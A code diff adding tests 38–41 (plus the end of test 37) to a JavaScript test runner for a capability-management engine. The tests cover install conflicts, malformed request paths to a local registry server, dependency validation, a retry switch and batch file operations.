+    if (beforeProvider.includes('speech-reader') && !afterProvider.includes('speech-reader') &&
+        legacyBefore.includes('legacy-tool') && !legacyAfter.includes('legacy-tool') &&
+        dryRun.success && dryRun.conflicts.length === 1 &&
+        !refused.success && refused.conflicts[0].with === 'browser-shots' && refused.conflicts[0].declaredBy === 'page-scraper' &&
+        !engine.installedCapabilities.includes('browser-forms') &&
+        !bundle.success && bundle.conflicts.some(conflict => conflict.capability === 'browser-forms' && conflict.with === 'page-scraper') &&
+        allowed.success && engine.installedCapabilities.includes('page-scraper') &&
+        reverse.length === 1 && reverse[0].with === 'page-scraper' && reverse[0].declaredBy === 'page-scraper' &&
+        issues.some(issue => issue.startsWith('error:') && issue.includes('"thing", which it provides itself')) &&
+        issues.some(issue => issue.startsWith('warning:') && issue.includes('"nowhere"')) &&
+        issues.some(issue => issue.startsWith('warning:') && issue.includes('nothing-provides-this'))) {
+      console.log(chalk.green('✓ PASS: Provided capabilities are not proposed and conflicting installs are refused'));
+      console.log(chalk.gray(`  - refused: ${refused.message}`));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ beforeProvider, afterProvider, legacyBefore, legacyAfter, dryRun, refused, bundle, allowed, reverse, issues })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 38: Registry server survives malformed request paths
+  console.log(chalk.yellow('\n[Test 38] Registry Server Malformed Paths'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const http = require('http');
+    const servedDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-serve-'));
+    fs.writeFileSync(path.join(servedDir, 'team.json'), JSON.stringify({ categories: {} }));
+
+    const server = new RegistryServer({ dir: servedDir, port: 0 });
+    const { url } = await server.start();
+    const get = requestPath => new Promise((resolve, reject) => {
+      http.get(url + requestPath, res => {
+        res.resume();
+        res.on('end', () => resolve(res.statusCode));
+      }).on('error', reject);
+    });
+
+    const malformed = await get('/%E0%A4%A.json');
+    const good = await get('/team.json');
+    await server.stop();
+    fs.rmSync(servedDir, { recursive: true, force: true });
+
+    if (malformed === 400 && good === 200) {
+      console.log(chalk.green('✓ PASS: Malformed path answered 400 and the server kept serving'));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ malformed, good })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 39: Dependency objects must name a package or a capability
+  console.log(chalk.yellow('\n[Test 39] Invalid Dependency Entries'));
+  try {
+    const validator = new RegistryValidator();
+    const withDependencies = dependencies => ({
+      categories: {
+        tools: {
+          capabilities: [{ id: 'dep-test', name: 'Dep Test', implementation: { type: 'npm', package: 'dep-test' }, dependencies }]
+        }
+      }
+    });
+    const empty = validator.validate(withDependencies([{}]));
+    const typeOnly = validator.validate(withDependencies([{ type: 'npm' }]));
+    const named = validator.validate(withDependencies([{ name: 'lodash', type: 'npm' }, { capability: 'other-tool' }]));
+
+    const planner = new DependencyPlanner();
+    const capability = withDependencies([{}, 'lodash']).categories.tools.capabilities[0];
+    const plan = planner.plan(capability);
+
+    if (!empty.valid && !typeOnly.valid && named.valid &&
+        empty.issues.some(issue => issue.path.endsWith('dependencies[0]')) &&
+        !plan.ok && plan.invalid.length === 1 && plan.invalid[0].requiredBy === 'dep-test' &&
+        plan.steps.some(step => step.action === 'install-npm' && step.name === 'lodash')) {
+      console.log(chalk.green('✓ PASS: Empty dependency objects rejected by the schema and reported by the planner'));
+      console.log(chalk.gray('  - ' + empty.issues.map(issue => issue.message).join('; ')));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ empty: empty.issues, typeOnly: typeOnly.issues, named: named.issues, plan })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 40: The 24/7 monitor's transient retry switch
+  console.log(chalk.yellow('\n[Test 40] Monitor Transient Retry Switch'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const EvolutionEngine = require('./evolution-engine');
+    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-monitor-'));
+
+    const byDefault = new EvolutionEngine({ dataDir, env: {} });
+    const byEnv = new EvolutionEngine({ dataDir, env: { EVOLUTION_RETRY_TRANSIENT: '1' } });
+    const byOption = new EvolutionEngine({ dataDir, env: { EVOLUTION_RETRY_TRANSIENT: '1' }, retryTransientFailures: false });
+    const retried = [];
+    byEnv.capabilityEngine = {
+      retryFailed: async (options) => {
+        retried.push(options);
+        return [{ capability: 'flaky-capability', success: true }];
+      }
+    };
+    const results = await byEnv.retryTransientInstalls();
+    fs.rmSync(dataDir, { recursive: true, force: true });
+
+    if (!byDefault.retryTransientFailures && byEnv.retryTransientFailures && !byOption.retryTransientFailures &&
+        retried.length === 1 && retried[0].transientOnly && results[0].success) {
+      console.log(chalk.green('✓ PASS: EVOLUTION_RETRY_TRANSIENT turns on transient retries, options override it'));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ retried, results })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
+  // Test 41: Builtin batch file operations
+  console.log(chalk.yellow('\n[Test 41] Batch File Operations'));
+  try {
+    const os = require('os');
+    const fs = require('fs');
+    const path = require('path');
+    const BatchOperations = require('./modules/batch-operations');
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'evolution-batch-'));
+    const source = path.join(dir, 'source');
+    fs.mkdirSync(path.join(source, 'nested'), { recursive: true });
+    ['a.txt', 'b.txt', 'c.log', 'nested/d.txt'].forEach(name => fs.writeFileSync(path.join(source, name), name));
+
+    const batch = new BatchOperations();
+    const flat = batch.listFiles(source, '\\.txt$').map(file => path.basename(file)).sort();
+    const recursive = batch.listFiles(source, '\\.txt$', { recursive: true }).map(file => path.basename(file)).sort();
+    const all = batch.listFiles(source);
+
+    const copied = await batch.copyAll(batch.listFiles(source, '\\.txt$'), path.join(dir, 'copies'));
+    const renamed = await batch.renameAll(batch.listFiles(path.join(dir, 'copies')), name => `old-${name}`);
+    const moved = await batch.moveAll(batch.listFiles(path.join(dir, 'copies')), path.join(dir, 'archive'));
+    const removed = await batch.removeAll([...batch.listFiles(path.join(dir, 'archive')), path.join(dir, 'missing.txt')]);
+    const archiveLeft = fs.readdirSync(path.join(dir, 'archive'));
+    const sourceLeft = fs.readdirSync(source).sort();
+    fs.rmSync(dir, { recursive: true, force: true });
+
+    if (JSON.stringify(flat) === JSON.stringify(['a.txt', 'b.txt']) &&
+        JSON.stringify(recursive) === JSON.stringify(['a.txt', 'b.txt', 'd.txt']) && all.length === 3 &&
+        copied.succeeded.length === 2 && copied.failed.length === 0 &&
+        renamed.succeeded.length === 2 &&
+        moved.succeeded.length === 2 && moved.succeeded.every(file => path.basename(file).startsWith('old-')) &&
+        removed.succeeded.length === 2 && removed.failed.length === 1 && removed.failed[0].file.endsWith('missing.txt') &&
+        archiveLeft.length === 0 && JSON.stringify(sourceLeft) === JSON.stringify(['a.txt', 'b.txt', 'c.log', 'nested'])) {
+      console.log(chalk.green('✓ PASS: Files listed, copied, renamed, moved and removed; failures collected per file'));
+      passed++;
+    } else {
+      console.log(chalk.red('✗ FAIL: ' + JSON.stringify({ flat, recursive, all, copied, renamed, moved, removed, archiveLeft, sourceLeft })));
+      failed++;
+    }
+  } catch (error) {
+    console.log(chalk.red('✗ FAIL: ' + error.message));
+    failed++;
+  }
+
   // Summary
   console.log(chalk.bold('\n📊 Test Summary'));
   console.log(chalk.gray('─'.repeat(60)));